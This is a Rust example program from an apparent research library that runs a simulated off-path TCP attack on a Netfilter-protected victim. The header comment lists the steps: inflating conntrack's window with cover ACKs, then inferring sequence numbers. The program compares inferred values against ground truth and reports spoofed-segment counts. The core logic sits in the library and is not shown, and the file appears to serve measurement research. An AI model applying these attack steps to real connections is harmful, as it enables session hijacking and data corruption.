//! Attack on a Netfilter-protected victim: inflate conntrack's window with
//! cover ACKs, find an acceptable ack, binary-search SND.NXT, then locate
//! RCV.NXT with one-byte data probes.
//!
//!     cargo run --release --example netfilter_attack [idle-netfilter|download-netfilter|upload-netfilter]

use qleak::harness::{build_network, run_experiment, Pipeline, ScenarioConfig};

fn main() -> Result<(), qleak::Error> {
    let name = std::env::args().nth(1).unwrap_or_else(|| "idle-netfilter".into());
    let mut cfg = ScenarioConfig::builtin(&name)
        .ok_or_else(|| qleak::Error::Invalid(format!("no built-in scenario `{name}`")))?;
    let (_, truth) = build_network(&cfg)?;
    cfg.victim_port = Some(truth.port);
    cfg.attack.port_lo = truth.port;
    cfg.attack.port_hi = truth.port;

    let e = run_experiment(&cfg, Pipeline::FullNetfilter)?;
    let r = &e.report;
    println!("inflated window   {:?}", r.inflated_window);
    println!("acceptable ack    {:?}", r.acceptable_ack);
    println!("victim SND.NXT    {:?} (true {:?})", r.inferred_victim_snd_nxt, e.truth.victim_snd_nxt);
    println!("peer SND.NXT      {:?} (true {:?})", r.inferred_peer_snd_nxt, e.truth.peer_snd_nxt);
    println!("stream corrupted  {}", r.session_corrupted);
    println!("success           {}", r.success);
    println!();
    for s in &r.stages {
        println!(
            "{:<16} {:>6} queries  {:>9} spoofed  {:>8.1} s",
            s.stage.name(),
            s.queries,
            s.spoofed_segments,
            s.time_s
        );
    }
    Ok(())
}
